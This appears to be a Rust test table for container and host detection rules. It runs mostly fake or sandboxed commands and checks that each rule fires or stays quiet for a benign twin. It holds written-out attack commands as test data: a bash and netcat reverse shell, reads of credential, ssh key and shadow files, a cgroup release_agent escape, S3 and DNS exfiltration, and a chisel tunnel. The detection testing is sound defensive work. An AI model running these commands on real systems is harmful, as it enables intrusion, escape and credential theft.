//! The table of cases for the other stateless rules of
//! `rules/mamori_rules.yaml`: each [`Case`] runs one program (a renamed
//! `true` or a real tool) on the host or in the container and names the rule
//! that must fire once, or the rules that must stay quiet (benign twins).
//! The cases are grouped by tactic, in the order they run.

use std::{
    net::Ipv4Addr,
    path::{Path, PathBuf},
    process::Command,
};

use serde_json::Value;

use crate::container::FakeContainer;
use crate::harness::{run_bounded, tool};
use crate::http::HttpServer;
use crate::{field, Ctx};
use crate::{
    ATTACK_TOOL, CLOUD_CLI, CRED_FILE, DATA_STORE, DNS_ENCODED, ENCODING, ESCAPE_FILE, INTERACTIVE,
    K8S_API, KUBELET, LINK_LOCAL, LISTENER, NETCAT_SCAN, PROC1, REMOTE_ADMIN, REMOTE_COPY,
    REMOTE_SHELL, REVERSE_SHELL, RUNTIME_SOCKET, SHADOW, SHELL_PUBLIC, SSH_KEY, TUNNEL,
};

/// Where a [`Case`] runs.
#[derive(Clone, Copy, PartialEq)]
pub(crate) enum At {
    Host,
    Container,
}

/// One more behaviour for the stateless rules: `prog` (a renamed
/// `/bin/true` when `fake`, else a real program) with `args`, on the host or
/// in the container, inside `unshare -n` when `netns` (so connects to
/// anything but loopback leave no packet). `fires` must alert exactly once;
/// the rules in `quiet` must not alert for it. The alert is found by
/// `proc.cmdline` and `container.id`.
pub(crate) struct Case {
    what: &'static str,
    prog: &'static str,
    fake: bool,
    args: Vec<String>,
    at: At,
    netns: bool,
    /// Expected exit code (None: depends on the machine).
    code: Option<i32>,
    fires: Option<&'static str>,
    quiet: &'static [&'static str],
}

pub(crate) fn case(what: &'static str, prog: &'static str, args: &[&str], at: At) -> Case {
    Case {
        what,
        prog,
        fake: false,
        args: args.iter().map(|a| a.to_string()).collect(),
        at,
        netns: false,
        code: Some(0),
        fires: None,
        quiet: &[],
    }
}

impl Case {
    /// A renamed `/bin/true` called `prog`.
    pub(crate) fn fake(mut self) -> Case {
        self.fake = true;
        self
    }
    /// In a fresh, empty network namespace; `code` is the tool's exit code
    /// when its connect fails (curl 7, bash 1).
    pub(crate) fn netns(mut self, code: i32) -> Case {
        self.netns = true;
        self.code = Some(code);
        self
    }
    pub(crate) fn code(mut self, code: Option<i32>) -> Case {
        self.code = code;
        self
    }
    pub(crate) fn fires(mut self, rule: &'static str) -> Case {
        self.fires = Some(rule);
        self
    }
    pub(crate) fn quiet(mut self, rules: &'static [&'static str]) -> Case {
        self.quiet = rules;
        self
    }
}

/// IPv4 addresses outside 127.0.0.0/8 written in `arg`.
fn non_loopback_ips(arg: &str) -> Vec<Ipv4Addr> {
    arg.split(|ch: char| !(ch.is_ascii_digit() || ch == '.'))
        .filter_map(|t| t.parse::<Ipv4Addr>().ok())
        .filter(|ip| !ip.is_loopback() && !ip.is_unspecified())
        .collect()
}

pub(crate) fn run_case(cx: &mut Ctx, ctr: &FakeContainer, i: usize, c: &Case) {
    // The network rule: a real program given a non-loopback address runs in
    // a fresh, empty network namespace, so nothing leaves this machine.
    if !c.fake && !c.netns {
        let ips: Vec<Ipv4Addr> = c.args.iter().flat_map(|a| non_loopback_ips(a)).collect();
        assert!(
            ips.is_empty(),
            "{}: real program with {ips:?} outside unshare -n",
            c.what
        );
    }
    let exe = if c.fake {
        let d = cx.dir.join(format!("case{i}"));
        std::fs::create_dir_all(&d).unwrap();
        tool(&d, c.prog, "/bin/true")
    } else {
        PathBuf::from(c.prog)
    };
    let mut argv: Vec<String> = Vec::new();
    let prog = if c.netns {
        argv.push("-n".into());
        argv.push(exe.display().to_string());
        PathBuf::from("unshare")
    } else {
        exe.clone()
    };
    argv.extend(c.args.iter().cloned());
    let code = match c.at {
        At::Host => {
            let mut cmd = Command::new(&prog);
            cmd.args(&argv);
            run_bounded(cmd).1.status.code()
        }
        At::Container => {
            let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
            let run = ctr.spawn(&prog, &argv);
            let code = run.code;
            cx.keep.push(run);
            code
        }
    };
    if c.code.is_some() {
        assert_eq!(code, c.code, "exit code of {}", c.what);
    }
    let name = exe.file_name().unwrap().to_string_lossy().into_owned();
    let cmdline = std::iter::once(name)
        .chain(c.args.iter().cloned())
        .collect::<Vec<_>>()
        .join(" ");
    // Fires: exactly this process's attribution. Quiet: any alert for the
    // command outside the container (host twins), or inside it.
    let ctr_id = ctr.short_id().to_string();
    let at = c.at;
    let fire_pred = {
        let (cmdline, ctr_id) = (cmdline.clone(), ctr_id.clone());
        move |a: &Value| {
            field(a, "proc.cmdline") == cmdline
                && field(a, "container.id") == if at == At::Host { "host" } else { &ctr_id }
        }
    };
    let pred = move |a: &Value| {
        field(a, "proc.cmdline") == cmdline
            && (field(a, "container.id") == ctr_id) == (at == At::Container)
    };
    if let Some(rule) = c.fires {
        let a = cx.expect_one(c.what, rule, fire_pred);
        assert_eq!(a["source"], "syscall");
    }
    for &rule in c.quiet {
        let p = pred.clone();
        cx.twin(format!("{} ({rule})", c.what), move |a| {
            a["rule"] == rule && p(a)
        });
    }
}

/// The other shipped stateless rules, each with a benign twin where one
/// exists. Connects to anything but loopback are made in `unshare -n`.
pub(crate) fn more_rules(cx: &mut Ctx, ctr: &FakeContainer) {
    let d = cx.dir.display().to_string();
    let runtime_api = fixtures(&cx.dir);
    let mut cases = discovery_cases();
    cases.extend(credential_cases(&d));
    cases.extend(escape_cases(&d));
    cases.extend(exfiltration_cases(&d));
    cases.extend(command_and_control_cases());
    for (i, c) in cases.iter().enumerate() {
        run_case(cx, ctr, i, c);
    }
    // Both curls really talked to the fake runtime API.
    let reqs = runtime_api.requests();
    assert_eq!(
        reqs.iter()
            .filter(|(m, t, _)| m == "GET" && t == "/version")
            .count(),
        2,
        "{reqs:?}"
    );
}

/// The fake runtime socket's path under the temp dir `d`.
fn runtime_socket(d: &str) -> String {
    format!("{d}/run/docker.sock")
}

/// Fake credential files and a runtime socket (a fake runtime API answering
/// on it) in the temp dir `dir`.
fn fixtures(dir: &Path) -> HttpServer {
    for (path, body) in [
        (
            "home/.aws/credentials",
            "[default]\naws_secret_access_key=fake\n",
        ),
        ("home/.aws/README", "not a credential\n"),
        (
            "home/.ssh/id_ed25519",
            "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n",
        ),
        ("home/.ssh/id_ed25519.pub", "ssh-ed25519 AAAA fake\n"),
        ("host/etc/shadow", "root:$6$fake:19000:0:99999:7:::\n"),
        ("host/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
        ("home/notes.txt", "nothing secret\n"),
    ] {
        let p = dir.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, body).unwrap();
    }
    std::fs::create_dir_all(dir.join("run")).unwrap();
    std::fs::create_dir_all(dir.join("cg")).unwrap();
    HttpServer::start_unix(Path::new(&runtime_socket(&dir.display().to_string())))
}

/// Discovery: attack tools, a netcat scan, cluster CLIs and API ports.
fn discovery_cases() -> Vec<Case> {
    use At::{Container as C, Host as H};
    vec![
        case("kube-hunter", "kube-hunter", &["--remote", "10.0.0.1"], H)
            .fake()
            .fires(ATTACK_TOOL),
        case("peirates in a container", "peirates", &[], C)
            .fake()
            .fires(ATTACK_TOOL),
        case(
            "nc -z over a port range",
            "nc",
            &["-zv", "10.0.0.5", "1-1024"],
            H,
        )
        .fake()
        .fires(NETCAT_SCAN),
        case("nc -z on one port", "nc", &["-z", "db", "5432"], H)
            .fake()
            .quiet(&[NETCAT_SCAN]),
        case(
            "kubectl in a container",
            "kubectl",
            &["get", "secrets", "-A"],
            C,
        )
        .fake()
        .fires(CLOUD_CLI),
        case(
            "kubectl on the host",
            "kubectl",
            &["get", "secrets", "-A"],
            H,
        )
        .fake()
        .quiet(&[CLOUD_CLI]),
        case(
            "curl to the kubelet in a container",
            "/usr/bin/curl",
            &["-sk", "https://10.0.0.1:10250/pods"],
            C,
        )
        .netns(7)
        .fires(KUBELET),
        case(
            "curl to the kubelet on the host",
            "/usr/bin/curl",
            &["-sk", "https://10.0.0.1:10250/pods"],
            H,
        )
        .netns(7)
        .quiet(&[KUBELET]),
        case(
            "curl to the API server in a container",
            "/usr/bin/curl",
            &["-sk", "https://10.0.0.1:6443/api"],
            C,
        )
        .netns(7)
        .fires(K8S_API),
    ]
}

/// Credential access: credential files, keys and link-local services.
fn credential_cases(d: &str) -> Vec<Case> {
    use At::{Container as C, Host as H};
    let p = |rel: &str| format!("{d}/{rel}");
    vec![
        case(
            "cat of aws credentials",
            "/bin/cat",
            &[&p("home/.aws/credentials")],
            H,
        )
        .fires(CRED_FILE),
        case(
            "cat of a file beside them",
            "/bin/cat",
            &[&p("home/.aws/README")],
            H,
        )
        .quiet(&[CRED_FILE]),
        case(
            "cat of an ssh private key",
            "/bin/cat",
            &[&p("home/.ssh/id_ed25519")],
            H,
        )
        .fires(SSH_KEY),
        case(
            "cat of an ssh public key",
            "/bin/cat",
            &[&p("home/.ssh/id_ed25519.pub")],
            H,
        )
        .quiet(&[SSH_KEY]),
        case(
            "cat of a host's shadow file",
            "/bin/cat",
            &[&p("host/etc/shadow")],
            H,
        )
        .fires(SHADOW),
        case(
            "cat of a host's passwd file",
            "/bin/cat",
            &[&p("host/etc/passwd")],
            H,
        )
        .quiet(&[SHADOW]),
        case(
            "curl to a link-local address in a container",
            "/usr/bin/curl",
            &["-s", "http://169.254.1.1/"],
            C,
        )
        .netns(7)
        .fires(LINK_LOCAL),
        case(
            "curl to link-local DNS in a container",
            "/usr/bin/curl",
            &["-s", "http://169.254.169.253:53/"],
            C,
        )
        .netns(7)
        .quiet(&[LINK_LOCAL]),
    ]
}

/// Lateral movement and escape: admin and data-store ports, /proc/1, the
/// runtime socket and cgroup escape files.
fn escape_cases(d: &str) -> Vec<Case> {
    use At::{Container as C, Host as H};
    let sock = runtime_socket(d);
    let escape = format!("echo /tmp/x > {d}/cg/release_agent");
    let sock_args = [
        "-s",
        "--max-time",
        "3",
        "--unix-socket",
        sock.as_str(),
        "http://localhost/version",
    ];
    vec![
        case(
            "bash /dev/tcp to ssh in a container",
            "/bin/bash",
            &["-c", "echo > /dev/tcp/10.0.0.5/22"],
            C,
        )
        .netns(1)
        .fires(REMOTE_ADMIN),
        case(
            "curl to redis in a container",
            "/usr/bin/curl",
            &["-s", "http://10.0.0.5:6379/"],
            C,
        )
        .netns(7)
        .fires(DATA_STORE),
        case(
            "curl to elasticsearch in a container",
            "/usr/bin/curl",
            &["-s", "http://10.0.0.5:9200/"],
            C,
        )
        .netns(7)
        .quiet(&[DATA_STORE]),
        case(
            "/proc/1/root read in a container",
            "/bin/cat",
            &["/proc/1/root/etc/hostname"],
            C,
        )
        .code(None)
        .fires(PROC1),
        case(
            "/proc/1/root read on the host",
            "/bin/cat",
            &["/proc/1/root/etc/hostname"],
            H,
        )
        .code(None)
        .quiet(&[PROC1]),
        case(
            "runtime socket from a container",
            "/usr/bin/curl",
            &sock_args,
            C,
        )
        .fires(RUNTIME_SOCKET),
        case("runtime socket on the host", "/usr/bin/curl", &sock_args, H).quiet(&[RUNTIME_SOCKET]),
        case(
            "release_agent written in a container",
            "/bin/sh",
            &["-c", &escape],
            C,
        )
        .fires(ESCAPE_FILE),
        case(
            "release_agent written on the host",
            "/bin/sh",
            &["-c", &escape],
            H,
        )
        .quiet(&[ESCAPE_FILE]),
    ]
}

/// Collection and exfiltration: encoding tools, remote copies and encoded
/// DNS names.
fn exfiltration_cases(d: &str) -> Vec<Case> {
    use At::{Container as C, Host as H};
    let p = |rel: &str| format!("{d}/{rel}");
    let b64_label = "ZXhmaWx0cmF0ZWQtZGF0YS1mcm9tLXRoZS1jbHVzdGVyLXNlY3JldHMtMDEyMzQ1";
    let dns_name = format!("{b64_label}.exfil.example.com");
    vec![
        case(
            "base64 of an ssh key",
            "/usr/bin/base64",
            &[&p("home/.ssh/id_ed25519")],
            H,
        )
        .fires(ENCODING)
        .quiet(&[SSH_KEY]),
        case(
            "base64 of a note",
            "/usr/bin/base64",
            &[&p("home/notes.txt")],
            H,
        )
        .quiet(&[ENCODING]),
        case(
            "aws s3 cp upload in a container",
            "aws",
            &["s3", "cp", "/data/dump.sql", "s3://exfil-bucket/"],
            C,
        )
        .fake()
        .fires(REMOTE_COPY)
        .quiet(&[CLOUD_CLI]),
        case("rclone", "rclone", &["copy", "/data", "remote:bucket"], H)
            .fake()
            .fires(REMOTE_COPY),
        case(
            "local rsync in a container",
            "rsync",
            &["-a", "/srv/a/", "/srv/b/"],
            C,
        )
        .fake()
        .quiet(&[REMOTE_SHELL, REMOTE_COPY]),
        case("dig of an encoded name", "dig", &["+short", &dns_name], H)
            .fake()
            .fires(DNS_ENCODED),
        case(
            "dig of a service name",
            "dig",
            &["+short", "kubernetes.default.svc.cluster.local"],
            H,
        )
        .fake()
        .quiet(&[DNS_ENCODED]),
    ]
}

/// Command and control: reverse shells, interactive shells without a
/// terminal, listeners, shells to public addresses and tunnels.
fn command_and_control_cases() -> Vec<Case> {
    use At::{Container as C, Host as H};
    vec![
        case(
            "bash -i to /dev/tcp",
            "bash",
            &["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
            H,
        )
        .fake()
        .fires(REVERSE_SHELL),
        case(
            "nc -e in a container",
            "nc",
            &["-e", "/bin/sh", "10.0.0.5", "4444"],
            C,
        )
        .fake()
        .fires(REVERSE_SHELL),
        case(
            "bash /dev/tcp to loopback",
            "bash",
            &["-c", "exec 3<>/dev/tcp/127.0.0.1/8080"],
            H,
        )
        .fake()
        .quiet(&[REVERSE_SHELL]),
        case(
            "bash -i without a terminal in a container",
            "bash",
            &["-i"],
            C,
        )
        .fake()
        .fires(INTERACTIVE),
        case("bash -ic in a container", "bash", &["-ic", "true"], C)
            .fake()
            .quiet(&[INTERACTIVE]),
        case("nc listener in a container", "nc", &["-lvnp", "4444"], C)
            .fake()
            .fires(LISTENER),
        case("nc listener on the host", "nc", &["-lvnp", "4444"], H)
            .fake()
            .quiet(&[LISTENER]),
        case(
            "bash /dev/tcp to a public address",
            "/bin/bash",
            &["-c", "echo > /dev/tcp/203.0.113.7/443"],
            H,
        )
        .netns(1)
        .fires(SHELL_PUBLIC),
        case(
            "bash /dev/tcp to a private address",
            "/bin/bash",
            &["-c", "echo > /dev/tcp/10.0.0.5/443"],
            H,
        )
        .netns(1)
        .quiet(&[SHELL_PUBLIC]),
        case(
            "chisel",
            "chisel",
            &["client", "203.0.113.7:8080", "R:socks"],
            H,
        )
        .fake()
        .fires(TUNNEL),
    ]
}
